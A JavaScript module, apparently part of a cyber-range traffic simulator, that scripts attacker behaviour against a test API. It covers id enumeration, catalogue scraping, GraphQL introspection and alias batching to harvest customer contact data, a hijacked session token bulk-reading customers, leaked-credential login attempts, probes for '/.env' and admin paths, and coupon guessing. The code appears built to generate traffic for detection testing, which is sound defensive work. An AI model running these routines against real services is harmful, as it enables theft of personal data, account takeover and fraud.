/** Attacks on data: ids one after the other, everything copied, GraphQL turned into a pump, stolen sessions, junk left behind. */
import { api, at, isOver, pause, random, readLines } from '../node/seat.mjs';
import { changeLibrary, isUuid, urls } from './actor.mjs';
import { drawVoice } from './voices.mjs';

const WORDS =
  'lamp chair desk mug tent kettle scarf boots radio clock shelf basket towel kite drum pan jacket bottle rug globe red blue oak steel linen'.split(
    ' ',
  );

/** Ids that a leak, a log or another program gave away; none where the range deals none. */
function harvestedIds(kind) {
  const ids = readLines(kind === 'customer' ? 'RANGE_CUSTOMER_IDS' : 'RANGE_IDS');
  const from = random.int(0, Math.max(0, ids.length - 2000));
  return ids.slice(from, from + 2000);
}

/** A number near which ids are: one of its own, one that a list shows, or what it has from elsewhere. */
async function startNumber(actor, kind) {
  const own = kind === 'order' && actor.credential ? (await actor.list('orders', 20)).ids : [];
  const known = own.length > 0 ? own : harvestedIds(kind);
  const number = Number(random.pick(known.length > 0 ? known : ['0']));
  return Number.isFinite(number) && number > 0 ? number : random.int(10_000, 400_000);
}

function* numbersFrom(start) {
  const step = random.pick([1, 1, 1, 1, -1, -1, 2, 10]);
  for (let id = start; id > 0; id += step) yield String(id);
}

/** What is walked through: orders mostly; with a key also customers. */
function drawKind(access) {
  return access === 'key'
    ? random.pick(['order', 'order', 'customer'])
    : random.pick(['order', 'order', 'order', 'order', 'customer']);
}

function isNumeric(kind) {
  return kind === 'order' ? !isUuid : api._shape === 'desk';
}

async function readEach(actor, kind, ids) {
  const isChanging = random.chance(0.08);
  await actor.each(ids, async (id) => {
    const { status } = await actor.get(at(kind, id));
    if (status === 200 && isChanging && kind === 'order') await actor.call('PATCH', at(kind, id), { json: { note: 'x' } });
  });
}

async function prepare(actor) {
  await actor.arrive();
  const access = await actor.enter(random.pick(['account', 'account', 'account', 'key', null]));
  const wanted = drawKind(access);
  // UUIDs, and a range of numbers that is worth a key, have to be known from somewhere.
  const isGuessable = isNumeric(wanted) && (wanted === 'order' || access !== 'key');
  return isGuessable || harvestedIds(wanted).length > 0 ? wanted : 'order';
}

/** Ids in order: upwards, downwards, in strides; UUIDs in the order in which they were made. */
export async function enumerationOrdered(actor) {
  const kind = await prepare(actor);
  if (isNumeric(kind)) return await readEach(actor, kind, numbersFrom(await startNumber(actor, kind)));
  return await readEach(actor, kind, orGuessed(harvestedIds(kind)));
}

/** The same ids out of order: a window shuffled, or drawn from a range. */
export async function enumerationShuffled(actor) {
  const kind = await prepare(actor);
  if (!isNumeric(kind)) return await readEach(actor, kind, orGuessed(random.shuffle(harvestedIds(kind))));
  const start = await startNumber(actor, kind);
  const width = Math.round(random.log(80, 5000));
  const window = Array.from({ length: width }, (_, i) => String(start + i - Math.floor(width / 2)));
  return await readEach(actor, kind, random.shuffle(window));
}

/** Ids that others' pages, feeds or logs gave away, some of them dead by now. */
export async function enumerationHarvested(actor) {
  const kind = await prepare(actor);
  const ids = orGuessed(random.shuffle(harvestedIds(kind)));
  const isStale = random.real(0, 0.3);
  return await readEach(
    actor,
    kind,
    ids.map((id) => (random.chance(isStale) ? gone(id) : id)),
  );
}

function orGuessed(ids) {
  return ids.length > 0
    ? ids
    : Array.from({ length: 1500 }, () => (isUuid ? random.uuid() : String(random.int(10_000, 420_000))));
}

function gone(id) {
  return id.includes('-') ? random.uuid() : String(Number(id) + random.int(1, 9));
}

/** Copies the catalogue: from its lists, by counting, from the pages, or through the search. */
export async function scraping(actor) {
  await actor.arrive();
  await actor.enter(null);
  const ways = [copyLists, copyLists, copyPages, copySearch, ...(isUuid ? [] : [copyNumbers])];
  await random.pick(ways)(actor);
}

async function copyLists(actor) {
  const limit = random.pick([20, 50, 100, 100]);
  const readsItems = random.chance(0.75);
  let path = `${at('products')}?limit=${limit}`;
  while (path && !actor.isDone()) {
    const { ids, next } = await actor.list('products', limit, path);
    path = next ?? (ids.length > 0 ? null : path);
    if (readsItems) await actor.each(ids, async (id) => void (await actor.get(at('product', id))));
  }
}

async function copyNumbers(actor) {
  const { ids } = await actor.list('products', 20);
  const start = Number(ids[0] ?? 1);
  const numbers = numbersUp(start, 4000);
  await actor.each(
    random.chance(0.5) ? numbers : random.shuffle(numbers),
    async (id) => void (await actor.get(at('product', id))),
  );
}

function numbersUp(start, count) {
  return Array.from({ length: count }, (_, i) => String(start + i));
}

async function copyPages(actor) {
  for (const category of random.shuffle(['kitchen', 'outdoor', 'office', 'textile', 'toys', 'audio'])) {
    for (let page = 1; page < 40 && !actor.isDone(); page++) {
      const { text } = await actor.get(`/c/${category}?page=${page}`, { isPage: true });
      const links = new Set([...text.matchAll(/href="(\/p\/[^"]+)"/g)].map(([, link]) => link));
      if (links.size === 0) break;
      await actor.each(links, async (link) => void (await actor.get(link, { isPage: true })));
    }
  }
}

async function copySearch(actor) {
  const words = random.shuffle(WORDS).flatMap((word) =>
    random
      .shuffle(WORDS)
      .slice(0, 6)
      .map((other) => `${word} ${other}`),
  );
  await actor.each([...WORDS, ...words], async (word) => {
    let path = `${at('search')}?q=${encodeURIComponent(word)}&limit=50`;
    for (let pages = 0; path && pages < 5 && !actor.isDone(); pages++) path = (await actor.list('products', 50, path)).next;
  });
}

const INTROSPECTION =
  'query IntrospectionQuery { __schema { queryType { name } mutationType { name } types { kind name fields { name args { name type { kind name } } type { kind name } } } } }';

/** GraphQL as a pump: what is there, then many things in one call, or ids by variables. */
export async function graphqlAbuse(actor) {
  await actor.arrive();
  await actor.enter(random.pick(['account', 'account', 'key', null]));
  if (random.chance(0.7)) await actor.post(at('graphql'), { operationName: 'IntrospectionQuery', query: INTROSPECTION });
  if (random.chance(0.4)) await guessFields(actor);
  const way = random.pick([aliases, aliases, oneByOne, oneByOne, deep]);
  await way(actor);
}

async function guessFields(actor) {
  const names = random.shuffle([
    'users',
    'admin',
    'customers',
    'payments',
    'secrets',
    'config',
    'debug',
    'internal',
    'tokens',
    'logs',
    'invoices',
  ]);
  for (const name of names.slice(0, random.int(3, 11))) await actor.post(at('graphql'), { query: `{ ${name} { id } }` });
}

async function graphqlIds(actor) {
  if (isUuid) return random.shuffle(orGuessed(harvestedIds('order')));
  const start = await startNumber(actor, 'order');
  return random.chance(0.6) ? numbersUp(start, 3000) : random.shuffle(numbersUp(start - 1500, 3000));
}

async function aliases(actor) {
  const ids = await graphqlIds(actor);
  const batch = random.int(8, 80);
  const batches = Array.from({ length: Math.ceil(ids.length / batch) }, (_, i) => ids.slice(i * batch, (i + 1) * batch));
  await actor.each(batches, async (some) => {
    const fields = some.map((id, i) => `o${i}: order(id: "${id}") { id status total customer { id name email phone } }`);
    await actor.post(at('graphql'), { query: `{ ${fields.join(' ')} }` });
  });
}

async function oneByOne(actor) {
  const query = 'query Order($id: ID!) { order(id: $id) { id status total customer { name email phone } } }';
  await actor.each(await graphqlIds(actor), async (id) => {
    await actor.post(at('graphql'), { operationName: 'Order', query, variables: { id } });
  });
}

async function deep(actor) {
  let after = 0;
  await actor.each(numbersUp(0, 3000), async () => {
    const inner = 'nodes { id name price slug description }';
    const parts = Array.from(
      { length: random.int(3, 12) },
      (_, i) => `p${i}: products(first: 100, after: "${after + i * 100}") { totalCount ${inner} }`,
    );
    after = (after + parts.length * 100) % 3000;
    await actor.post(at('graphql'), { query: `{ ${parts.join(' ')} me { id email } }` });
  });
}

/** A good client until the turn; then the same token takes all it can. */
export async function hijackedSession(actor) {
  const isPartner = random.chance(0.35);
  const turnAtMs = performance.timeOrigin + Number(process.env.RANGE_TURN ?? 0) * 1000;
  const fastPace = actor.pace;
  actor.onLimit = 'obey';
  if (!isPartner && random.chance(0.8)) actor.voice = drawVoice(new Set(['mobile']));
  actor.pace = () => Math.min(random.log(400, 4000), Math.max(0, turnAtMs - Date.now()));
  await actor.enter(isPartner ? 'key' : 'account');
  while (Date.now() < turnAtMs && !isOver()) await (isPartner ? syncOnce(actor, turnAtMs) : useOnce(actor, turnAtMs));
  await pause(turnAtMs - Date.now() + random.real(50, 900));
  await takeOver(actor, fastPace);
  const ways = [enumerateOwn, enumerateOwn, ...(isPartner ? [exfiltrate, exfiltrate] : [guessAccounts])];
  await random.pick(ways)(actor);
}

/** The thief has the token only: on the same machine, in another program, or at another address. */
async function takeOver(actor, fastPace) {
  actor.pace = random.chance(0.3) ? () => random.log(300, 3000) : fastPace;
  actor.onLimit = random.pick(['ignore', 'blind', 'obey']);
  if (random.chance(0.5)) await changeLibrary(actor);
  if (urls.length > 1 && random.chance(0.4)) actor.jars = [urls[1]];
}

/** One round of a phone's user: a list, some of what it showed. */
async function useOnce(actor, untilMs) {
  const kind = random.pick(['orders', 'products', 'products']);
  const { ids } = await actor.list(kind, 20);
  for (const id of random.shuffle(ids).slice(0, random.int(0, 4))) {
    if (Date.now() > untilMs || isOver()) return;
    await actor.get(at(kind.slice(0, -1), id));
  }
  if (random.chance(0.2)) await actor.get(at('me'));
}

/** One round of a partner's sync: what changed lately, each item of it. */
async function syncOnce(actor, untilMs) {
  const since = new Date(Date.now() - random.real(0.2, 2) * 86_400_000).toISOString();
  const { ids } = await actor.list('orders', 20, `${at('orders')}?limit=20&updated_since=${since}`);
  for (const id of ids.slice(0, random.int(2, 12))) {
    if (Date.now() > untilMs || isOver()) return;
    await actor.get(at('order', id));
  }
  await pause(Math.min(random.log(1500, 8000), untilMs - Date.now()));
}

async function enumerateOwn(actor) {
  if (isUuid) return await readEach(actor, 'order', orGuessed(random.shuffle(harvestedIds('order'))));
  const start = await startNumber(actor, 'order');
  const ids = random.chance(0.6) ? numbersFrom(start) : random.shuffle(numbersUp(start - 800, 1600));
  return await readEach(actor, 'order', ids);
}

/** All customers, page by page, each one opened. */
async function exfiltrate(actor) {
  const readsItems = random.chance(0.6);
  let path = `${at('customers')}?limit=100`;
  while (path && !actor.isDone()) {
    const { ids, next } = await actor.list('customers', 100, path);
    path = next ?? (ids.length > 0 ? null : path);
    if (readsItems) await actor.each(ids, async (id) => void (await actor.get(at('customer', id))));
  }
}

/** What else the token opens: other people's records, the doors of the administrators, gift cards. */
async function guessAccounts(actor) {
  const doors = ['customers', 'admin', 'scimUsers', 'scimGroups', 'me', 'orders'].map((name) => at(name));
  const customers = orGuessed(random.shuffle(harvestedIds('customer'))).map((id) => at('customer', id));
  await actor.each([...random.shuffle(doors), ...customers], async (path) => void (await actor.get(path)));
}

const JUNK = [
  'Cheap watches at https://deals.example/',
  'You won! Call +221 7000000',
  'Work from home, 900 a day: https://jobs.example/',
  'Follow @best_offers',
];

/** Leaves junk wherever a text is taken: orders with notes, notes on orders, customers' records, webhooks. */
export async function spamPosting(actor) {
  await actor.arrive();
  const access = await actor.enter(random.pick(['account', 'account', 'key']));
  await actor.list('products', 20);
  const { ids } = await actor.list('orders', 50);
  const targets = ids.length > 0 ? ids : ['1'];
  const ways = [order, order, note, ...(access === 'key' ? [hook] : [])];
  const way = random.pick(ways);
  await actor.each(numbersUp(0, 2000), async () => void (await way(actor, targets)));
}

function junk() {
  return `${random.pick(JUNK)} ${random.hex(4)}`;
}

async function order(actor) {
  const items = [{ productId: random.pick(actor.shown.products) ?? '1', qty: 1 }];
  const { data } = await actor.post(at('orders'), { items, note: junk() });
  if (data?.id && random.chance(0.5)) await actor.call('PATCH', at('order', data.id), { json: { note: junk() } });
}

async function note(actor, targets) {
  await actor.call('PATCH', at('order', random.pick(targets)), { json: { note: junk() } });
}

async function hook(actor) {
  await actor.post(at('hooks', random.hex(8)), { text: junk() });
}

/** Among the calls of somebody who looks around, one that asks for what it should not, again and again. */
export async function lowAndSlow(actor) {
  await actor.arrive();
  const aim = random.pick(['orders', 'orders', 'giftcards', 'logins', 'doors', 'coupons']);
  const usual = aim === 'orders' || aim === 'doors' ? 'account' : random.pick(['account', null]);
  await actor.enter(usual);
  const between = random.int(1, 4);
  const bad = await prepareAim(actor, aim);
  while (!actor.isDone()) {
    for (let i = random.int(0, between); i > 0 && !actor.isDone(); i--) await actor.decoy();
    await bad();
  }
}

async function prepareAim(actor, aim) {
  if (aim === 'giftcards') return () => actor.get(at('giftcard', random.hex(10).toUpperCase()));
  if (aim === 'logins') return tryLeaked(actor);
  if (aim === 'doors') return tryDoors(actor);
  if (aim === 'coupons') return await tryCoupons(actor);
  const start = isUuid ? 0 : await startNumber(actor, 'order');
  const ids = isUuid ? random.shuffle(orGuessed(harvestedIds('order'))) : numbersUp(start, 500);
  return () => actor.get(at('order', ids.shift() ?? '1'));
}

function tryLeaked(actor) {
  const lines = random.shuffle(readLines('RANGE_LEAKED'));
  return () => {
    const line = lines.shift() ?? 'nobody@mail.example:none';
    const colon = line.indexOf(':');
    return actor.post(at('login'), { email: line.slice(0, colon), password: line.slice(colon + 1) }, { as: null });
  };
}

function tryDoors(actor) {
  const words = random.shuffle(readLines('RANGE_WORDS'));
  const known = [
    at('admin'),
    at('customers'),
    at('scimUsers'),
    '/.env',
    '/internal/config',
    `${at('me')}/export`,
    `${at('orders')}/export`,
  ];
  return () =>
    actor.get(
      random.chance(0.5) ? random.pick(known) : `${random.pick(['', at('orders'), at('me')])}/${words.shift() ?? 'backup'}`,
    );
}

async function tryCoupons(actor) {
  const { data } = await actor.post(at('cart'), {});
  return () =>
    actor.post(at('coupon', data?.id ?? '1'), { code: `${random.pick(['SAVE', 'VIP', 'SPRING', 'EXTRA'])}${random.int(1, 99)}` });
}
